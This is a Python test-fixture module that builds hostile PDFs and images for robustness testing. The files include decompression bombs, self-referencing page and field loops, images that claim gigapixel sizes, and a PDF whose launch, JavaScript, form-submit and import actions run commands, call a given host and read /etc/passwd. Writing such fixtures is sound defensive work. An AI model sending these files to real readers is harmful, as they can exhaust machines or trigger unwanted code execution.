"""Makes files that are made to harm: bombs, loops, lies about sizes, and PDFs that want something to be run.

Each is a few kilobytes that a careless reader turns into gigabytes, minutes or an action.
"""

import struct
import zlib
from collections.abc import Mapping

from PIL import Image

from tests.files import assembled, encoded

MEGABYTE = 2**20

_BLACK_SQUARE = b"0 g 100 600 200 100 re f"
"""Contents of the page of `one_page`, so that a page which was drawn shows ink."""


def stream(data: bytes, entries: bytes = b"", *, is_packed: bool = False) -> bytes:
    """A stream object; `entries` stand in its dictionary beside the length."""
    if is_packed:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(page: bytes = b"", *more: bytes, catalogue: bytes = b"", contents: bytes | None = None) -> bytes:
    """A PDF of one page: 1 catalogue, 2 page tree, 3 page, 4 contents, then `more` from 5 on.

    `page` and `catalogue` are entries of those dictionaries; `contents` is a whole stream object.
    """
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R %s %s /Contents 4 0 R >>"
            % (b"" if b"/MediaBox" in page else b"/MediaBox [0 0 595 842]", page),
            contents or stream(_BLACK_SQUARE),
            *more,
        ]
    )


def _spaces(megabytes: int) -> bytes:
    """Blanks packed to a thousandth: one packed megabyte again and again, with no checksum at the end."""
    packer = zlib.compressobj(9)
    head = packer.compress(b" ") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes


def _bomb(megabytes: int) -> bytes:
    data = _spaces(megabytes)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)


def _bomb_in_bomb(megabytes: int) -> bytes:
    data = zlib.compress(_spaces(megabytes), 9)
    return b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(data), data)


def _image(width: int, height: int, data: bytes, entries: bytes = b"/Filter /FlateDecode") -> bytes:
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 %s"
    return stream(data, head % (width, height, entries))


def _showing(image: bytes) -> bytes:
    return one_page(b"/Resources << /XObject << /I 5 0 R >> >>", image, contents=stream(b"595 0 0 842 0 0 cm /I Do"))


def _drawing_itself() -> bytes:
    form = stream(b"/F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>")
    return one_page(b"/Resources << /XObject << /F 5 0 R >> >>", form, contents=stream(b"/F Do"))


def _billion_laughs(levels: int = 12, times: int = 12) -> bytes:
    """Each form draws the next one so many times."""
    forms = [
        stream(
            b"/F Do " * times,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >>" % (6 + level),
        )
        for level in range(levels)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return one_page(b"/Resources << /XObject << /F 5 0 R >> >>", *forms, last, contents=stream(b"/F Do"))


def _deep_pages(levels: int = 20_000) -> bytes:
    tree = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (3 + i, 1 + i) for i in range(levels)]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (1 + levels)
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *tree, page])


def _pages_in_a_loop() -> bytes:
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 3 /Kids [3 0 R 2 0 R 3 0 R] /Parent 2 0 R >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def _text_field(entries: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (plaque) /Rect [100 600 300 620] %s >>" % entries


def _fields_in_a_loop() -> bytes:
    form = b"/AcroForm << /Fields [5 0 R] >>"
    return one_page(b"/Annots [5 0 R]", _text_field(b"/Parent 5 0 R /Kids [5 0 R] /V 5 0 R"), catalogue=form)


def _deep_fields(levels: int = 20_000) -> bytes:
    fields = [b"<< /T (x) /Kids [%d 0 R] /Parent %d 0 R >>" % (6 + i, 4 + i) for i in range(levels)]
    last = _text_field(b"/Parent %d 0 R" % (4 + levels))
    annots = b"/Annots [%d 0 R]" % (5 + levels)
    return one_page(annots, *fields, last, catalogue=b"/AcroForm << /Fields [5 0 R] >>")


def _drawing_of_itself_in_a_field() -> bytes:
    drawing = stream(b"/F Do", b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 6 0 R >> >>")
    field = _text_field(b"/V (AB) /AP << /N 6 0 R >>")
    return one_page(b"/Annots [5 0 R]", field, drawing, catalogue=b"/AcroForm << /Fields [5 0 R] >>")


def _trees_in_a_loop() -> bytes:
    """Outlines and names that lead back to themselves."""
    outline = b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Next 5 0 R /Parent 5 0 R /Title (x) >>"
    names = b"<< /Kids [6 0 R 6 0 R] /Limits [(a) (b)] >>"
    entries = b"/Outlines 5 0 R /Names << /JavaScript 6 0 R /EmbeddedFiles 6 0 R /Dests 6 0 R >> /Dests 6 0 R"
    return one_page(b"", outline, names, catalogue=entries)


def _nested(levels: int = 100_000) -> bytes:
    return one_page(b"/Deep " + b"[" * levels + b"]" * levels)


def _xref_in_a_loop() -> bytes:
    data = one_page()
    start = data.rindex(b"xref\n0", 0, data.rindex(b"startxref"))
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def _xref_off() -> bytes:
    """All places in the table are wrong, which readers mend by a search."""
    data = one_page()
    at = data.rindex(b"xref\n0", 0, data.rindex(b"startxref"))
    return data[:at] + data[at:].replace(b"00000 n", b"00007 n").replace(b"\n00000", b"\n00099")


def _object_stream_bomb() -> bytes:
    data = _spaces(1000)
    entries = b"/Type /ObjStm /N 100000000 /First 4 /Filter /FlateDecode"
    return one_page(b"", b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data))


def _letters(count: int = 200_000) -> bytes:
    text = b"BT /F 1 Tf 1 0 0 1 9 9 Tm " + b"(A) Tj " * count + b"ET"
    font = b"/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    return one_page(font, contents=stream(text, is_packed=True))


def bombs() -> Mapping[str, bytes]:
    """PDFs that unpack to more than a machine has."""
    return {
        "contents-of-3-gigabytes": one_page(contents=_bomb(3000)),
        "bomb-in-a-bomb": one_page(contents=_bomb_in_bomb(3000)),
        "picture-of-3-gigabytes": _showing(_image(100, 100, _spaces(3000))),
        "object-stream": _object_stream_bomb(),
    }


def endless() -> Mapping[str, bytes]:
    """Files that take more time than anyone has."""
    return {
        "forms-that-multiply": _billion_laughs(),
        "letters": _letters(),
        "jpeg-of-many-scans": _jpeg_of_many_scans(),
    }


def lies() -> Mapping[str, bytes]:
    """PDFs whose sizes and counts are not what they are."""
    return {
        "picture-of-10-gigapixels": _showing(_image(100_000, 100_000, zlib.compress(b"0"))),
        "picture-of-no-size": _showing(_image(0, 0, zlib.compress(b"0"))),
        "picture-of-negative-size": _showing(_image(-5, 2**31 - 1, zlib.compress(b"0"))),
        "page-as-large-as-a-country": one_page(b"/MediaBox [0 0 1e9 1e9]"),
        "page-as-long-as-a-road": one_page(b"/MediaBox [0 0 1 1e7]"),
        "page-of-no-size": one_page(b"/MediaBox [0 0 0 0]"),
        "page-of-odd-size": one_page(b"/MediaBox [nan (a) -1e999 null]"),
        "user-unit": one_page(b"/UserUnit 1e9"),
        "two-thousand-million-pages": one_page().replace(b"/Count 1 ", b"/Count 2147483647 "),
        "minus-one-page": one_page().replace(b"/Count 1 ", b"/Count -1 "),
    }


def loops() -> Mapping[str, bytes]:
    """PDFs in which something leads back to itself, or down without end."""
    return {
        "page-tree": _pages_in_a_loop(),
        "deep-page-tree": _deep_pages(),
        "form-drawing-itself": _drawing_itself(),
        "fields": _fields_in_a_loop(),
        "deep-fields": _deep_fields(),
        "field-drawing": _drawing_of_itself_in_a_field(),
        "outlines-and-names": _trees_in_a_loop(),
        "nested-arrays": _nested(),
        "xref": _xref_in_a_loop(),
        "xref-with-wrong-places": _xref_off(),
        "contents": one_page(b"", b"[5 0 R 5 0 R]").replace(b"/Contents 4 0 R", b"/Contents 5 0 R"),
        "length": one_page(b"", contents=b"<< /Length 4 0 R >>\nstream\n0 0 9 9 re f\nendstream"),
    }


def wanting_to_run(marker: str, host: str) -> bytes:
    """A PDF that, were its actions run, would make the file `marker`, or call that host.

    Launch action, JavaScript on opening, on the page and in a name tree, an embedded program, a form to be sent, a
    remote file to go to, a stream whose data lie in another file, and an annotation of each kind of action.
    """
    launch = (
        f"<< /S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) /P (/c echo > {marker}) >> /P ({marker}) >>".encode()
    )
    script = f"<< /S /JavaScript /JS (app.launchURL\\('http://{host}/'\\); app.alert\\(1\\);) >>".encode()
    send = f"<< /S /SubmitForm /F << /FS /URL /F (http://{host}/) >> >>".encode()
    go = f"<< /S /GoToR /F (http://{host}/a.pdf) /D [0 /Fit] >>".encode()
    fetch = f"<< /S /URI /URI (http://{host}/) >>".encode()
    load = b"<< /S /ImportData /F (/etc/passwd) >>"
    actions = [launch, script, send, go, fetch, load]
    links = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s /AA << /PO %s /PV %s >> >>" % (one, one, one)
        for one in actions
    )
    names = b"/Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    return one_page(
        b"/AA << /O %s /C %s >> /Annots [%s]" % (launch, script, links),
        script,
        b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
        stream(f"#!/bin/sh\ntouch {marker}\n".encode(), b"/Type /EmbeddedFile"),
        stream(b"", b"/F (/etc/passwd)"),
        catalogue=b"/OpenAction %s /AA << /WC %s /WS %s >> %s" % (launch, script, launch, names),
    )


def pictures() -> Mapping[str, bytes]:
    """Pictures that claim more than they hold, or lead in a loop."""
    return {
        "jpeg-of-4-gigapixels": _jpeg_of(65_500, 65_500),
        "jpeg-just-beyond": _jpeg_of(20_001, 100),
        "webp-of-268-megapixels": _webp_of(16_384, 16_384),
        "tiff-of-4-gigapixels": _tiff(width=2**16, height=2**16),
        "tiff-in-a-loop": _tiff(width=30, height=30, following=8),
        "tiff-tag-of-4-gigabytes": _tiff(width=30, height=30, count=2**32 - 1),
        "png-comment-bomb": _png_with(b"zTXt", b"a\0\0" + _spaces(500)),
        "png-profile-bomb": _png_with(b"iCCP", b"a\0\0" + _spaces(500)),
        "gif": encoded(Image.new("P", (3000, 3000)), "GIF"),
        "gif-of-4-gigapixels": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0\0\0",
        "bmp": encoded(Image.new("L", (30, 30)), "BMP"),
    }


def _jpeg_of(width: int, height: int) -> bytes:
    data = encoded(Image.new("L", (16, 16)), "JPEG")
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def _webp_of(width: int, height: int) -> bytes:
    data = encoded(Image.new("RGB", (16, 16)), "WEBP", lossless=True)
    at = data.index(b"VP8L") + 9
    bits = int.from_bytes(data[at : at + 4], "little") >> 28 << 28 | (height - 1) << 14 | width - 1
    return data[:at] + bits.to_bytes(4, "little") + data[at + 4 :]


def _tiff(width: int, height: int, following: int = 0, count: int = 1) -> bytes:
    """A grey TIFF of one strip; `following` is where its next page would be, `count` values of its comment."""
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (270, 2, count, 8),
        (273, 4, 1, 200),
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, 900),
    ]
    directory = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    head = b"II*\0" + struct.pack("<IH", 8, len(tags)) + directory + struct.pack("<I", following)
    return head.ljust(200, b"\0") + bytes(900)


def _png_with(kind: bytes, data: bytes) -> bytes:
    """A small PNG with one more chunk after its header."""
    plain = encoded(Image.new("L", (30, 30)), "PNG")
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return plain[:33] + chunk + plain[33:]


def _jpeg_of_many_scans(scans: int = 4000, side: int = 8000) -> bytes:
    """A progressive JPEG that draws the whole picture again and again."""
    data = encoded(Image.new("L", (64, 64)), "JPEG", progressive=True)
    size = data.index(b"\xff\xc2") + 5
    data = data[:size] + struct.pack(">HH", side, side) + data[size + 4 :]
    first = data.index(b"\xff\xda")
    scan = data[first : data.index(b"\xff", first + 2)]
    return data[:first] + scan * scans + data[first:]
